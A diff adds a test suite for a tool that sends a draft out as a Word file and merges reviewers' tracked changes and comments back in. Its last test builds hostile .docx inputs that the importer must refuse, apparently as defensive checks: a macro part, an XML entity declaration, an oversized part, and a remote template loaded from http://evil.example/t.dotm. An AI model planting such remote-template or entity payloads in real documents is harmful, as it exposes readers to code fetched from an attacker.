@@ -1,0 +1,265 @@
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
+import { expect, onTestFinished, test } from 'vitest';
+import { parse } from 'yaml';
+import type { Element } from 'xast';
+import { x } from 'xastscript';
+import { readContent } from '../../../src/content/read-content.ts';
+import {
+  asDeleted,
+  cutRun,
+  find,
+  plainRuns,
+  replaceIn,
+  runOf,
+  textOf,
+  WordEditor,
+} from '../../../src/drafting/exchange/testing/edit-word.ts';
+import { copyOfContent, edit } from './testing/publishable-content.ts';
+import { runCode } from './testing/run-code.ts';
+
+const clause = (id: string): string => `code/draft/clauses/${id}.mdx`;
+
+/** A copy of the content, and the Word file that was sent from it. */
+async function sent(...options: readonly string[]) {
+  const folder = copyOfContent('content');
+  const place = mkdtempSync(join(tmpdir(), 'word-'));
+  onTestFinished(() => {
+    rmSync(place, { recursive: true });
+  });
+  const file = join(place, 'draft.docx');
+  const { succeeded, output } = await runCode(folder, 'word', 'out', file, ...options);
+  expect(succeeded, output).toBe(true);
+  return { folder, file, textOf: (id: string) => readFileSync(join(folder, clause(id)), 'utf8') };
+}
+
+interface Replacement {
+  readonly words: string;
+  readonly by: string;
+  readonly author: string;
+  readonly comment?: string;
+}
+
+/** Replaces words in a file with tracking on, with a comment if there is one. */
+function replaceWords(file: string, replacements: readonly Replacement[]): void {
+  const editor = new WordEditor(readFileSync(file));
+  const comments: Element[] = [];
+  for (const { words, by, author, comment } of replacements) {
+    const paragraph = editor.paragraphs().find((one) => plainRuns(one).some((run) => textOf(run).includes(words)));
+    const run = paragraph === undefined ? undefined : plainRuns(paragraph).find((one) => textOf(one).includes(words));
+    if (paragraph === undefined || run === undefined) throw new Error(`The file has no “${words}”.`);
+    const at = textOf(run).indexOf(words);
+    const [before, middle, after] = cutRun(run, at, at + words.length);
+    const id = String(comments.length);
+    const marks = comment === undefined ? [] : [x('w:commentRangeStart', { 'w:id': id })];
+    const ends = comment === undefined ? [] : [x('w:commentRangeEnd', { 'w:id': id })];
+    const change =
+      by === words
+        ? [middle]
+        : [
+            x('w:del', editor.attributes(author), [asDeleted(middle)]),
+            x('w:ins', editor.attributes(author), [runOf(by)]),
+          ];
+    replaceIn(paragraph, run, [before, ...marks, ...change, ...ends, after]);
+    if (comment !== undefined)
+      comments.push(
+        x('w:comment', { 'w:id': id, 'w:author': author, 'w:date': '2026-11-02T10:00:00Z' }, [
+          x('w:p', {}, [runOf(comment)]),
+        ]),
+      );
+  }
+  const names = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
+  const written = comments.map((one) => find({ ...one, children: [one] }, 'w:comment')).flat();
+  editor.setPart('word/comments.xml', `<w:comments ${names}>${written.map(asXml).join('')}</w:comments>`);
+  writeFileSync(file, editor.save());
+}
+
+function asXml(node: Element): string {
+  const { 'w:id': id, 'w:author': author, 'w:date': date } = node.attributes;
+  return `<w:comment w:id="${id}" w:author="${author}" w:date="${date}"><w:p><w:r><w:t>${textOf(node)}</w:t></w:r></w:p></w:comment>`;
+}
+
+const nobody = {
+  words: 'Nobody may use it for anything else',
+  by: 'No one may use it for anything else',
+  author: 'Ann Lee',
+};
+
+test('a file that comes back as it went out has nothing to decide, and changes nothing', async () => {
+  const { folder, file } = await sent();
+  const { output } = await runCode(folder, 'word', 'in', file, '--accept', 'all');
+  expect(output).toContain('0 changes: 0 can be accepted');
+  expect(existsSync(join(folder, 'code/draft/proposals.yaml'))).toBe(false);
+});
+
+test('without an answer, changes and comments are listed with who made them, and nothing is changed', async () => {
+  const { folder, file, textOf: source } = await sent();
+  const before = source('system-purpose');
+  replaceWords(file, [
+    { ...nobody, comment: 'Plainer.' },
+    {
+      words: 'Each organisation should check',
+      by: 'Each organisation should check',
+      author: 'Bob Hay',
+      comment: 'Why not must?',
+    },
+  ]);
+  const { output } = await runCode(folder, 'word', 'in', file);
+  expect(output).toContain('1. system-purpose: replaced (Ann Lee, 2 November 2026)');
+  expect(output).toContain('Comment by Ann Lee: Plainer.');
+  expect(output).toContain('Comment in who-may-use by Bob Hay on “Each organisation should check”\n    Why not must?');
+  expect(output).toContain('Nothing was changed.');
+  expect(source('system-purpose')).toBe(before);
+});
+
+test('an accepted change is written into its clause, and everything else stays byte for byte', async () => {
+  const { folder, file, textOf: source } = await sent('--clauses', 'G,H');
+  const before = source('system-purpose');
+  replaceWords(file, [nobody]);
+  const { succeeded, output } = await runCode(folder, 'word', 'in', file, '--accept', 'all');
+  expect(succeeded, output).toBe(true);
+  expect(source('system-purpose')).toBe(before.replace(nobody.words, nobody.by));
+  expect(output).toContain('npm run code -- reason');
+});
+
+test('what the draft changed since stays: other words are merged, and the same words are a conflict', async () => {
+  const { folder, file, textOf: source } = await sent();
+  replaceWords(file, [nobody, { words: 'at least once a year', by: 'at least twice a year', author: 'Ann Lee' }]);
+  edit(folder, clause('system-purpose'), (text) =>
+    text.replace('anything else', 'any other thing').replace('Nobody may', 'No user may'),
+  );
+  const first = await runCode(folder, 'word', 'in', file, '--accept', 'all');
+  expect(first.output).toContain('Conflict: the draft has changed these words since.');
+  expect(source('system-purpose')).toContain('No user may use it for any other thing.');
+  const { changes } = parse(readFileSync(join(folder, 'code/draft/proposals.yaml'), 'utf8')) as {
+    changes: { after: string; author?: string }[];
+  };
+  expect(changes.map(({ after, author }) => [after, author])).toEqual([[nobody.by, undefined]]);
+  // Taken by its number, theirs replaces ours.
+  const second = await runCode(folder, 'word', 'waiting', '--accept', '1');
+  expect(second.succeeded, second.output).toBe(true);
+  expect(source('system-purpose')).toContain('No one may use it for');
+  expect(existsSync(join(folder, 'code/draft/proposals.yaml'))).toBe(false);
+});
+
+test('changes are accepted and rejected by person, and the rest waits where the content can be read', async () => {
+  const { folder, file, textOf: source } = await sent();
+  replaceWords(file, [nobody, { words: 'at least once a year', by: 'at least twice a year', author: 'Bob Hay' }]);
+  const { output } = await runCode(folder, 'word', 'in', file, '--accept', 'by Bob Hay');
+  expect(output).toContain('1 accepted, 0 rejected, 1 for later');
+  expect(source('system-purpose')).toContain(nobody.words);
+  expect(readContent(folder, { draft: 'include' }).problems).toEqual([]);
+  expect((await runCode(folder, 'word', 'waiting')).output).toContain('1. system-purpose: replaced');
+  await runCode(folder, 'word', 'waiting', '--reject', 'all');
+  expect(existsSync(join(folder, 'code/draft/proposals.yaml'))).toBe(false);
+});
+
+test('names are kept only where the settings of the site say so', async () => {
+  const { folder, file } = await sent();
+  replaceWords(file, [nobody]);
+  edit(folder, 'site.yaml', (text) => `${text}proposals: { names: true }\n`);
+  await runCode(folder, 'word', 'in', file, '--later', 'all');
+  expect(readFileSync(join(folder, 'code/draft/proposals.yaml'), 'utf8')).toContain('author: Ann Lee');
+});
+
+test('an answered note goes out as a comment with the next file, and then no longer waits', async () => {
+  const { folder, file } = await sent();
+  replaceWords(file, [
+    {
+      words: 'Each organisation should check',
+      by: 'Each organisation should check',
+      author: 'Bob Hay',
+      comment: 'Why not must?',
+    },
+  ]);
+  await runCode(folder, 'word', 'in', file, '--later', 'all');
+  edit(folder, 'code/draft/proposals.yaml', (text) =>
+    text.replace('text: Why not must?', 'text: Why not must?\n    answer: It is advice.'),
+  );
+  const next = join(file, '..', 'next.docx');
+  const { succeeded, output } = await runCode(folder, 'word', 'out', next);
+  expect(succeeded, output).toBe(true);
+  expect(strFromU8(unzipSync(readFileSync(next))['word/comments.xml'] ?? new Uint8Array())).toContain(
+    'Answer: It is advice.',
+  );
+  expect(existsSync(join(folder, 'code/draft/proposals.yaml'))).toBe(false);
+  expect((await runCode(folder, 'word', 'in', next)).output).toContain('0 comments without a change');
+});
+
+test('with the changes since a revision tracked, only what others changed is listed', async () => {
+  const { folder, file, textOf: source } = await sent('--against', '0.4');
+  expect((await runCode(folder, 'word', 'in', file)).output).toContain('0 changes:');
+  replaceWords(file, [{ words: 'at least once a year', by: 'at least twice a year', author: 'Ann Lee' }]);
+  const { output } = await runCode(folder, 'word', 'in', file, '--accept', 'all');
+  expect(output).toContain('1 accepted');
+  expect(output).toContain('at least twice a year');
+  void source;
+});
+
+test('a file that lost what it was made from is compared with the draft, saying how sure that is', async () => {
+  const { folder, file, textOf: source } = await sent();
+  replaceWords(file, [nobody]);
+  const parts = unzipSync(readFileSync(file));
+  const left = Object.fromEntries(
+    Object.entries(parts).filter(([path]) => !path.startsWith('customXml/') && path !== 'docProps/custom.xml'),
+  );
+  writeFileSync(file, zipSync(left));
+  const { output } = await runCode(folder, 'word', 'in', file, '--accept', 'all');
+  expect(output).toMatch(/It was compared with the draft as it is now\. \d+ of its \d+ longer paragraphs/);
+  expect(source('system-purpose')).toContain(nobody.by);
+});
+
+const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+test.each([
+  ['that is encrypted', () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]), 'This file is encrypted'],
+  ['that was cut off', (bytes: Uint8Array) => bytes.slice(0, 5000), 'it may have been cut off on its way'],
+  [
+    'with macros',
+    (bytes: Uint8Array) => zipSync({ ...unzipSync(bytes), 'word/vbaProject.bin': strToU8('x') }),
+    'This file has macros',
+  ],
+  [
+    'with entities',
+    (bytes: Uint8Array) =>
+      zipSync({ ...unzipSync(bytes), 'word/comments.xml': strToU8('<!DOCTYPE a [<!ENTITY b "c">]><w:comments/>') }),
+    'This file defines entities',
+  ],
+  [
+    'that loads something from outside',
+    (bytes: Uint8Array) =>
+      zipSync({
+        ...unzipSync(bytes),
+        'word/_rels/settings.xml.rels': strToU8(
+          `<Relationships><Relationship Id="r1" Type="${relationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
+        ),
+      }),
+    'This file loads something from outside (http://evil.example/t.dotm)',
+  ],
+  [
+    'that becomes far too large',
+    (bytes: Uint8Array) => zipSync({ ...unzipSync(bytes), 'word/media/a.png': new Uint8Array(60_000_000) }),
+    'This file would become',
+  ],
+  [
+    'of another body',
+    (bytes: Uint8Array) => {
+      const parts = unzipSync(bytes);
+      const sentPart = strFromU8(parts['customXml/item1.xml'] ?? new Uint8Array());
+      return zipSync({
+        ...parts,
+        'customXml/item1.xml': strToU8(sentPart.replace(/ code="[^"]*"/, ' code="Allotments"')),
+      });
+    },
+    'This file is of “Allotments”',
+  ],
+] as const)('a file %s is refused in a sentence, and nothing is changed', async (_, spoil, words) => {
+  const { folder, file } = await sent('--clauses', 'G');
+  writeFileSync(file, spoil(readFileSync(file)));
+  const { succeeded, output } = await runCode(folder, 'word', 'in', file, '--accept', 'all');
+  expect(succeeded).toBe(false);
+  expect(output).toContain(words);
+  expect(output).toContain('Nothing was changed.');
+});
